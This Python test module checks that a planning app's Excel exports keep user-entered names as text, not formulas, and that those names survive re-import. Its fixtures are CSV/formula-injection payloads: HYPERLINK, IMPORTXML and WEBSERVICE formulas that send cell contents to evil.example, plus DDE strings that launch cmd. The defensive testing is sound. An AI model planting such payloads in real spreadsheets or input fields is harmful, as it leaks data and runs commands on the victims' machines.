"""Every .xlsx crewplan writes holds people's text as text, never as a formula (issue 8).

One workspace gets hostile names in every place a person types text that reaches a file
(teams, a person's full name, a signer's name, a function, an activity and its split, a
KPI, a tool and its vendor, a budget line, budget version names with characters Excel
refuses in sheet titles), then every export is walked cell by cell: the RACI export of
the draft, of the published version and of the new draft, the RACI template, the budget
export of the web page and of `crewplan budget export`. Only crewplan's own total formulas
may be formulas. Then the RACI and budget files go back in through the imports and give
the same names."""

import io
import re
from decimal import Decimal
from typing import Any

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from crewplan.lib.sheets import FORMULA_STARTS
from crewplan.planning.budget import services as budget_services
from crewplan.planning.goals import services as planning_services
from crewplan.planning.models import AiTool, BudgetLine, BudgetVersion, Kpi
from crewplan.planning.tools import services as tool_services
from crewplan.raci import services as raci_services
from crewplan.raci.models import Activity, Assignment, MatrixVersion
from crewplan.raci.queries import load_grid
from crewplan.workspaces import services as workspace_services
from tests.factories import client_for, join, make_user

D = Decimal
LEAK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
HOSTILE = {
    "in_house": LEAK,
    "agency": "+SUM(1,2) Agency",
    "person": "-2+3 Mallory",
    "signer": "@cmd|' /C calc'!A0",
    "function": "=1+1 內容",
    "activity": '=HYPERLINK("http://evil.example/?"&B3,"看")',
    "split": '=IMPORTXML("http://evil.example/","//a")',
    "kpi": "-ROAS",
    "tool": "=cmd|' /C calc'!A0 tool",
    "vendor": "@vendor",
    "item": '=WEBSERVICE("http://evil.example/"&A2)',
    "version": "=Q2: re/forecast [v?] *with\\ a name far longer than 31",
}
TOTAL = re.compile(r"=SUM\(([A-R])(\d+):([A-R])(\d+)\)")


@pytest.fixture
def hostile(world: Any) -> dict[str, Any]:
    alice = world.people["alice"]
    a = world.a
    for team, name, kind in (
        (world.a_in_house, HOSTILE["in_house"], "internal"),
        (world.a_agency, HOSTILE["agency"], "external"),
    ):
        workspace_services.team_update(
            team=team, actor=alice, revision=team.revision, name=name, kind=kind
        )
    mallory = join(
        a, alice, world.a_agency, make_user("mallory@agency.example", HOSTILE["person"]), "member"
    )
    signer = make_user("signer@a.example", HOSTILE["signer"])
    join(a, alice, world.a_in_house, signer, "manager")

    draft = raci_services.template_apply(
        workspace=a, actor=alice, in_house=world.a_in_house, agency=world.a_agency, language="en"
    )
    function = raci_services.function_create(workspace=a, actor=alice, name=HOSTILE["function"])
    activity = raci_services.activity_save(
        workspace=a,
        actor=alice,
        function=function,
        name=HOSTILE["activity"],
        kind="execution",
        split=HOSTILE["split"],
    )
    raci_services.person_column_add(version=draft, membership=mallory, actor=alice)
    for key, letters in (
        (f"team-{world.a_in_house.pk}", "A"),
        (f"team-{world.a_agency.pk}", "R"),
        (f"person-{mallory.pk}", "C"),
    ):
        raci_services.cell_set(
            version=draft, activity=activity, party_key=key, text=letters, expected="", actor=alice
        )
    raci_services.sign_off(version=draft, team=world.a_in_house, actor=signer)

    kpi = planning_services.kpi_save(
        workspace=a,
        actor=alice,
        data={"name": HOSTILE["kpi"], "unit": "x", "metric": "revenue", "denominator": "spend"},
    )
    tool = tool_services.tool_save(
        workspace=a,
        actor=alice,
        data={
            "name": HOSTILE["tool"],
            "vendor": HOSTILE["vendor"],
            "status": "active",
            "kpi": kpi,
            "seats": 2,
        },
    )
    version = budget_services.version_create(
        workspace=a, actor=alice, fiscal_year=2026, name=HOSTILE["version"]
    )
    budget_services.line_save(
        version=version,
        actor=alice,
        data={
            "category": "tool_subscription",
            "item": HOSTILE["item"],
            "tool": tool,
            "kpi": kpi,
            "owner": world.a_agency,
            **{f"m{m:02d}": D(1000) for m in range(1, 13)},
        },
    )
    budget_services.version_create(
        workspace=a, actor=alice, fiscal_year=2026, name="::", based_on=version
    )  # nothing left after cleaning
    return {"draft": draft, "signer": signer, "version": version, "tool": tool, "kpi": kpi}


def our_total(cell: Any, last: int) -> bool:
    """The budget export's own formulas: a line's year total in column R, the totals row."""
    if cell.row < last:
        return bool(cell.column_letter == "R" and cell.value == f"=SUM(F{cell.row}:Q{cell.row})")
    letter = cell.column_letter
    return bool(cell.value == f"=SUM({letter}2:{letter}{last - 1})")


def walk(content: bytes) -> set[str]:
    """Every text of the workbook, after asserting that each is a text cell (and marked as
    typed text where it starts like a formula) and that no other cell is a formula."""
    book = load_workbook(io.BytesIO(content))
    texts: set[str] = set()
    for sheet in book.worksheets:
        last = sheet.max_row
        for row in sheet.iter_rows():
            for cell in row:
                where = (sheet.title, cell.coordinate, cell.value)
                if cell.data_type == "f":
                    assert TOTAL.fullmatch(str(cell.value)) and our_total(cell, last), where
                elif isinstance(cell.value, str):
                    assert cell.data_type == "s", where
                    assert cell.quotePrefix or not cell.value.startswith(FORMULA_STARTS), where
                    texts.add(cell.value)
        texts.add(f"sheet:{sheet.title}")
    return texts


def test_every_export_writes_text_as_text(
    world: Any, hostile: dict[str, Any], tmp_path: Any
) -> None:
    alice = client_for(world.people["alice"])
    draft: MatrixVersion = hostile["draft"]

    def get(url: str) -> bytes:
        response = alice.get(url)
        assert response.status_code == 200, url
        return response.content

    raci_draft = walk(get(f"/w/alpha/raci/versions/{draft.pk}/export.xlsx"))
    person_header = f"{HOSTILE['person']} ({HOSTILE['agency']})"
    for text in (
        HOSTILE["in_house"],
        HOSTILE["agency"],
        person_header,
        HOSTILE["function"],
        HOSTILE["activity"],
        HOSTILE["split"],
        HOSTILE["signer"],
    ):
        assert text in raci_draft, text  # the walk saw the hostile texts it vouches for

    raci_services.sign_off(version=draft, team=world.a_agency, actor=world.people["adam"])
    published = raci_services.publish(version=draft, actor=world.people["alice"])
    raci_published = walk(get(f"/w/alpha/raci/versions/{published.pk}/export.xlsx"))
    assert {HOSTILE["activity"], HOSTILE["signer"], person_header} <= raci_published
    new_draft = raci_services.draft_start(workspace=world.a, actor=world.people["alice"])
    assert HOSTILE["activity"] in walk(get(f"/w/alpha/raci/versions/{new_draft.pk}/export.xlsx"))
    assert {HOSTILE["in_house"], HOSTILE["agency"]} <= walk(get("/w/alpha/raci/template.xlsx"))

    web = walk(get("/w/alpha/plan/budget/export.xlsx?year=2026"))
    out = tmp_path / "plan.xlsx"
    call_command(
        "budget", "export", "--workspace", "alpha", "--year", "2026", str(out), stdout=io.StringIO()
    )
    command = walk(out.read_bytes())
    for texts in (web, command):
        assert {HOSTILE["item"], HOSTILE["tool"], HOSTILE["kpi"], HOSTILE["agency"]} <= texts
        sheets = sorted(t for t in texts if t.startswith("sheet:"))
        # The version names lose what Excel refuses, fit 31 characters, and never clash.
        assert sheets == [
            "sheet:Budget",
            "sheet:Tools",
            "sheet:v1 =Q2 re forecast v with a nam",
            "sheet:v2",
        ]


def test_raci_round_trip_keeps_hostile_names(world: Any, hostile: dict[str, Any]) -> None:
    alice = client_for(world.people["alice"])
    draft: MatrixVersion = hostile["draft"]

    def grid() -> dict[tuple[str, str, str], str]:
        loaded = load_grid(draft, "en")
        names = {p.key: p.name for p in loaded.matrix.parties}
        acts = {a.key: (a.function, a.name) for a in loaded.matrix.activities}
        return {(*acts[a], names[p]): loaded.cell(a, p) for (a, p) in loaded.matrix.cells}

    before = grid()
    assert (HOSTILE["function"], HOSTILE["activity"], HOSTILE["person"]) in before
    activities = set(Activity.objects.filter(workspace=world.a).values_list("pk", "name"))
    exported = alice.get(f"/w/alpha/raci/versions/{draft.pk}/export.xlsx").content
    Assignment.objects.filter(version=draft).delete()
    upload = io.BytesIO(exported)
    upload.name = "matrix.xlsx"
    preview = alice.post("/w/alpha/raci/import/", {"file": upload})
    assert preview.status_code == 200, preview.context["plan"].problems
    done = alice.post("/w/alpha/raci/import/confirm/", {"plan": preview.context["token"]})
    assert done.status_code == 302
    assert grid() == before
    assert set(Activity.objects.filter(workspace=world.a).values_list("pk", "name")) == activities
    split = Activity.objects.get(workspace=world.a, name=HOSTILE["activity"]).split
    assert split == HOSTILE["split"]


def test_budget_round_trip_keeps_hostile_names(world: Any, hostile: dict[str, Any]) -> None:
    alice = client_for(world.people["alice"])
    version: BudgetVersion = hostile["version"]
    exported = alice.get(f"/w/alpha/plan/budget/export.xlsx?year=2026&v={version.pk}").content
    upload = io.BytesIO(exported)
    upload.name = "plan.xlsx"
    preview = alice.post("/w/alpha/plan/budget/import/", {"file": upload})
    assert preview.status_code == 200, preview.context["plan"].problems
    assert preview.context["plan"].new_tools == []  # the tool is recognised by its name
    done = alice.post(
        "/w/alpha/plan/budget/import/confirm/",
        {"plan": preview.context["token"], "year": "2026", "name": "Back from Excel"},
    )
    assert done.status_code == 302
    imported = BudgetVersion.objects.get(workspace=world.a, name="Back from Excel")

    def lines(v: BudgetVersion) -> list[tuple[Any, ...]]:
        return [
            (ln.category, ln.item, ln.amounts, ln.tool_id, ln.kpi_id, ln.owner_id)
            for ln in BudgetLine.objects.filter(version=v)
        ]

    assert lines(imported) == lines(version)
    assert lines(imported)[0][1] == HOSTILE["item"]
    assert AiTool.objects.filter(workspace=world.a).count() == 1
    assert Kpi.objects.filter(workspace=world.a).count() == 1
